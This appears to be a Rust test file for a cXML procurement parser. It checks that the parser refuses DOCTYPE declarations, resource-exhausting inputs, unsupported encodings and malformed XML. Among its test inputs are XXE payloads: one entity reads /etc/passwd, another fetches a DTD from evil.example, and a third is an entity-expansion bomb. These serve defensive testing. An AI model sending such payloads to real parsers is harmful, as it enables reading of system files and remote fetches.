//! Documents that want to cost more than they bring, or to reach what is none of theirs.

use procurement::cxml::{Fault, Limits, read};

fn refusal(document: impl AsRef<[u8]>) -> Fault {
    read(document.as_ref(), &Limits::default()).unwrap_err()
}

fn with_doctype(doctype: &str) -> String {
    format!("<?xml version=\"1.0\"?>{doctype}<cXML payloadID=\"1\" timestamp=\"2026-01-01T00:00:00Z\">&x;</cXML>")
}

#[test]
fn a_document_type_may_name_a_dtd_and_declare_nothing() {
    for doctype in [
        "<!DOCTYPE cXML [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE cXML [<!ENTITY % x SYSTEM \"http://evil.example/x.dtd\"> %x;]>",
        "<!DOCTYPE cXML SYSTEM \"cXML.dtd\" [<!ENTITY x \"y\">]>",
        "<!DOCTYPE cXML [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY x \"&b;&b;&b;&b;\">]>",
        "<!DOCTYPE cXML []>",
    ] {
        let fault = refusal(with_doctype(doctype));
        assert!(fault.code == 406 && fault.detail.contains("declares"), "{doctype}: {fault}");
    }
    assert!(refusal(with_doctype("<!DOCTYPE html>")).detail.contains("not cXML's"));
    assert!(refusal(with_doctype("<!DOCTYPE cXML SYSTEM \"cXML.dtd\">")).detail.contains("&x;"));
}

#[test]
fn every_limit_is_held() {
    let attributes = |count: usize| (0..count).map(|n| format!(" a{n}=''")).collect::<String>();
    let nested = |depth: usize| "<a>".repeat(depth) + &"</a>".repeat(depth);
    for (document, limit) in [
        (format!("<cXML{}/>", attributes(80_000)), "64 attributes"),
        (nested(100_000), "64 deep"),
        ("<a>".repeat(200_000), "64 deep"),
        ("x".repeat(10 * 1024 * 1024), "1048576 bytes"),
        (format!("<a>{}</a>", "<b/>".repeat(30_000)), "20000 elements"),
        (format!("<a>{}</a>", format!("<b{}/>", attributes(64)).repeat(700)), "40000 attributes"),
        (format!("<a>{}</a>", "x".repeat(100_001)), "100000 characters"),
        (format!("<a>{}</a>", "&lt;".repeat(100_001)), "100000 characters"),
        (format!("<a b='{}'/>", "x".repeat(100_001)), "100000 characters"),
        (format!("<a>{}</a>", "<![CDATA[x]]>".repeat(50_000) + &"x".repeat(60_000)), "100000 characters"),
    ] {
        let fault = refusal(document);
        assert!(fault.code == 406 && fault.detail.contains(limit), "{limit}: {fault}");
    }
}

#[test]
fn other_encodings_are_refused_and_the_two_known_ones_read() {
    let document = |encoding: &str| {
        format!(
            "<?xml version=\"1.0\" encoding=\"{encoding}\"?><cXML payloadID=\"é\" timestamp=\"2026-01-01T00:00:00Z\">\
                 <Response><Status code=\"200\" text=\"OK\"/></Response></cXML>"
        )
    };
    let utf_16 = |bytes: fn(u16) -> [u8; 2]| document("UTF-16").encode_utf16().flat_map(bytes).collect::<Vec<_>>();
    for bytes in
        [utf_16(u16::to_le_bytes), utf_16(u16::to_be_bytes), [b"\xff\xfe".to_vec(), utf_16(u16::to_le_bytes)].concat()]
    {
        assert!(refusal(bytes).detail.contains("UTF-16"));
    }
    for encoding in ["UTF-16", "UTF-7", "EBCDIC-CP-US", "Shift_JIS"] {
        assert!(refusal(document(encoding)).detail.contains("UTF-8"), "{encoding}");
    }
    let latin: Vec<u8> = document("ISO-8859-1").chars().map(|c| u8::try_from(c).unwrap()).collect();
    let with_mark = [b"\xef\xbb\xbf".to_vec(), document("utf-8").into_bytes()].concat();
    for bytes in [latin.clone(), with_mark, document("UTF-8").into_bytes()] {
        assert_eq!(read(&bytes, &Limits::default()).unwrap().payload_id, "é");
    }
    let mislabelled = String::from_utf8_lossy(&latin).replace("ISO-8859-1", "UTF-8");
    assert!(read(mislabelled.as_bytes(), &Limits::default()).is_ok_and(|document| document.payload_id != "é"));
    assert!(refusal(b"<cXML payloadID=\"\xe9\"/>").detail.contains("not in UTF-8"));
}

#[test]
fn what_is_no_xml_is_refused() {
    for document in [
        "",
        " ",
        "hello",
        "<cXML",
        "<cXML>",
        "<cXML></b>",
        "<cXML/><cXML/>",
        "<cXML/>x",
        "x<cXML/>",
        "<cXML a='1' a='2'/>",
        "<cXML>&#0;</cXML>",
        "<cXML>&#1;</cXML>",
        "<cXML a='&#1;'/>",
        "<cXML>\u{1}</cXML>",
        "<cXML>&#xD800;</cXML>",
        "<cXML>&x;</cXML>",
        "<cXML a='&x;'/>",
        "<cXML>&</cXML>",
        "<cXML>\u{ffff}</cXML>",
        "<cxml/>",
        "<cXML/>",
    ] {
        assert_eq!(refusal(document).code, 406, "{document:?}");
    }
}
